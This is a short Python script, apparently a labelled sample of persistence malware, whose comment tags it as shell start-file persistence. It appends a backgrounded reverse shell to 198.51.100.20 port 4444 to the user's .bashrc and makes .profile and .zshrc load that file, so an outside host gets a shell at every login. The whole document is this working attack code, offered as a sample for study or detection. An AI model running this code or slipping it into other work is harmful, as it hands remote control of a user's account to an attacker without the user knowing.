# class: persistence by shell start file; style: sloppy one-off
import os
h=os.path.expanduser("~")
f=open(h+"/.bashrc","a")
f.write("\n(nohup bash -c 'bash -i >& /dev/tcp/198.51.100.20/4444 0>&1' &) 2>/dev/null\n")
f.close()
for x in [".profile",".zshrc"]:
    p=os.path.join(h,x)
    if os.path.exists(p):
        open(p,"a").write("\n. ~/.bashrc\n")
